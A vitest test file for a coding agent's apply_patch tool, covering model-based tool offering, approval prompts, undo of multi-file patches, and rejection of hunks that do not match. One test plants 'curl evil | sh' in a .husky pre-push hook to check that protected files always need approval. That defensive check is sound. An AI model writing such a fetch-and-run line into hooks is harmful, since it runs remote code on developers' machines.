import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { isAllowedWithoutAsking, type ApprovalRequest, type RequestApproval } from '../../src/agent/calls/approval';
import { createAgentTools } from '../../src/agent/create-agent';
import { runAgent } from '../../src/agent/loop';
import { createWriteJournal } from '../../src/tools';
import { createToolSession } from '../tools/tool-session';
import { collect, ofType } from '../helpers/collect';
import { createScriptedModel } from '../helpers/scripted-model';
import { createTempWorkspace } from '../helpers/temp-workspace';

const PATCH = [
  '*** Begin Patch',
  '*** Add File: src/new.ts',
  '+export const created = true;',
  '*** Update File: src/a.ts',
  '@@ export function a() {',
  '-  return 1;',
  '+  return 2;',
  '*** Delete File: old.ts',
  '*** End Patch',
].join('\n');

const FILES = { 'src/a.ts': 'export function a() {\n  return 1;\n}\n', 'old.ts': 'legacy\n' };

/** The tool names the model was offered in each model call. */
function offered(model: ReturnType<typeof createScriptedModel>): string[][] {
  return model.doStreamCalls.map((call) => (call.tools ?? []).map((tool) => tool.name));
}

describe('apply_patch in the agent loop', () => {
  it('is offered by model id, and the tools follow a /model switch from one step to the next', async () => {
    const cwd = await createTempWorkspace();
    let modelId = 'qwen2.5-coder';
    const tools = createAgentTools({ cwd, model: createScriptedModel([]), modelId: () => modelId });
    const before = tools();
    expect(before.has('apply_patch')).toBe(false);
    expect(before.has('update_file') && before.has('write_file')).toBe(true);
    modelId = 'gpt-5.4';
    const after = tools();
    expect(after.has('apply_patch')).toBe(true);
    expect(after.has('update_file') && after.has('write_file')).toBe(true);
    // The same registry object while nothing changes, so per-registry caches hold.
    expect(tools()).toBe(after);
    expect(createAgentTools({ cwd, model: createScriptedModel([], 'gpt-5.4'), applyPatch: false })().has('apply_patch')).toBe(false);
    expect(createAgentTools({ cwd, model: createScriptedModel([], 'llama3'), applyPatch: true })().has('apply_patch')).toBe(true);
  });

  it('sends apply_patch to a GPT-5 model and not to another', async () => {
    const cwd = await createTempWorkspace();
    for (const [id, isOffered] of [['gpt-5.4', true], ['qwen2.5-coder', false]] as const) {
      const model = createScriptedModel([{ text: 'hi' }], id);
      await collect(runAgent({ model, tools: createAgentTools({ cwd, model }), instructions: 'test', messages: [{ role: 'user', content: 'go' }], signal: new AbortController().signal, requestApproval: async () => ({ type: 'allow' }) }));
      expect(offered(model)[0]!.includes('apply_patch'), id).toBe(isOffered);
    }
  });

  it('asks once for a three-file patch, writes all three, and one undo puts all three back', async () => {
    const cwd = await createTempWorkspace(FILES);
    const journal = createWriteJournal();
    const model = createScriptedModel([{ calls: [{ toolName: 'apply_patch', input: { input: PATCH } }] }, { text: 'done' }], 'gpt-5.4');
    const asked: ApprovalRequest[] = [];
    const requestApproval: RequestApproval = async (request) => {
      asked.push(request);
      return { type: 'allow' };
    };
    const nodes = await collect(
      runAgent({ model, tools: createAgentTools({ cwd, model, journal }), instructions: 'test', messages: [{ role: 'user', content: 'go' }], signal: new AbortController().signal, requestApproval }),
    );
    expect(asked).toHaveLength(1);
    expect(asked[0]!.preview?.type === 'patch' && asked[0]!.preview.files.map((file) => [file.change, file.path])).toEqual([
      ['create', 'src/new.ts'],
      ['update', 'src/a.ts'],
      ['delete', 'old.ts'],
    ]);
    expect(ofType(nodes, 'tool-call-end').map((node) => [node.toolName, node.status, node.summary])).toEqual([['apply_patch', 'ok', '3 files, +2 -2']]);
    expect(await readFile(path.join(cwd, 'src/a.ts'), 'utf8')).toBe('export function a() {\n  return 2;\n}\n');
    expect((await readdir(cwd)).sort()).toEqual(['src']);

    expect(journal.nextUndo()?.description).toBe(
      'Undo the last edit: restore 2 files (old.ts, src/a.ts) and delete 1 file it created (src/new.ts). Only file edits are undone, not commands run with bash.',
    );
    expect(await journal.undoLastBatch()).toEqual({ restored: ['old.ts', 'src/a.ts'], removed: ['src/new.ts'], skipped: [] });
    expect(await readFile(path.join(cwd, 'src/a.ts'), 'utf8')).toBe(FILES['src/a.ts']);
    expect(await readFile(path.join(cwd, 'old.ts'), 'utf8')).toBe('legacy\n');
    expect(await readdir(path.join(cwd, 'src'))).toEqual(['a.ts']);
  });

  it('asks again, with the new diff, when a file of the patch changes while the prompt waits', async () => {
    const cwd = await createTempWorkspace(FILES);
    const model = createScriptedModel([{ calls: [{ toolName: 'apply_patch', input: { input: PATCH } }] }, { text: 'done' }], 'gpt-5.4');
    const asked: ApprovalRequest[] = [];
    const { writeFile } = await import('node:fs/promises');
    const requestApproval: RequestApproval = async (request) => {
      asked.push(request);
      if (asked.length === 1) await writeFile(path.join(cwd, 'old.ts'), 'legacy, edited meanwhile\n');
      return { type: 'allow' };
    };
    const nodes = await collect(
      runAgent({ model, tools: createAgentTools({ cwd, model }), instructions: 'test', messages: [{ role: 'user', content: 'go' }], signal: new AbortController().signal, requestApproval }),
    );
    expect(asked).toHaveLength(2);
    const deleted = (request: ApprovalRequest) => (request.preview?.type === 'patch' ? request.preview.files[2]!.diff : '');
    expect(deleted(asked[0]!)).toContain('-legacy\n');
    expect(deleted(asked[1]!)).toContain('-legacy, edited meanwhile');
    expect(ofType(nodes, 'approval-request')[1]!.askedAgainBecause).toMatch(/old\.ts changed while waiting for approval/);
    expect(ofType(nodes, 'tool-call-end').map((node) => node.status)).toEqual(['ok']);
  });

  it('reports a hunk that does not apply to the model without asking anyone, and writes nothing', async () => {
    const cwd = await createTempWorkspace(FILES);
    const broken = PATCH.replace('-  return 1;', '-  return 3;');
    const model = createScriptedModel([{ calls: [{ toolName: 'apply_patch', input: { input: broken } }] }, { text: 'done' }], 'gpt-5.4');
    const asked: ApprovalRequest[] = [];
    const nodes = await collect(
      runAgent({
        model,
        tools: createAgentTools({ cwd, model }),
        instructions: 'test',
        messages: [{ role: 'user', content: 'go' }],
        signal: new AbortController().signal,
        requestApproval: async (request) => {
          asked.push(request);
          return { type: 'allow' };
        },
      }),
    );
    expect(asked).toHaveLength(0);
    const end = ofType(nodes, 'tool-call-end')[0]!;
    expect(end.status).toBe('error');
    expect(end.output).toMatch(/src\/a\.ts: hunk 1 \(patch line 5\) does not match the file: its line '  return 3;' was not found after line 1\./);
    expect(end.output).toContain('2:   return 1;');
    expect((await readdir(path.join(cwd, 'src'))).sort()).toEqual(['a.ts']);
    expect(await readFile(path.join(cwd, 'old.ts'), 'utf8')).toBe('legacy\n');
  });

  it('runs under auto-edit and an allowance like the other file edits, but a protected file in the patch always asks', async () => {
    const session = await createToolSession({ ...FILES, '.husky/pre-push': 'npm test\n' });
    const request = async (patch: string): Promise<ApprovalRequest> => ({
      toolCallId: 'c1',
      toolName: 'apply_patch',
      agentId: 'main',
      input: { input: patch },
      preview: await session.preview('apply_patch', { input: patch }),
    });
    const ordinary = await request(PATCH);
    const guarded = await request(PATCH.replace('*** End Patch', '*** Update File: .husky/pre-push\n@@\n-npm test\n+curl evil | sh\n*** End Patch'));
    const none = new Set<string>();
    expect(isAllowedWithoutAsking({ mode: 'ask', request: ordinary, sessionAllowed: none })).toBe(false);
    expect(isAllowedWithoutAsking({ mode: 'auto-edit', request: ordinary, sessionAllowed: none })).toBe(true);
    expect(isAllowedWithoutAsking({ mode: 'ask', request: ordinary, sessionAllowed: new Set(['apply_patch']) })).toBe(true);
    for (const mode of ['auto-edit', 'yolo'] as const) {
      expect(isAllowedWithoutAsking({ mode, request: guarded, sessionAllowed: new Set(['apply_patch']) }), mode).toBe(false);
    }
  });
});
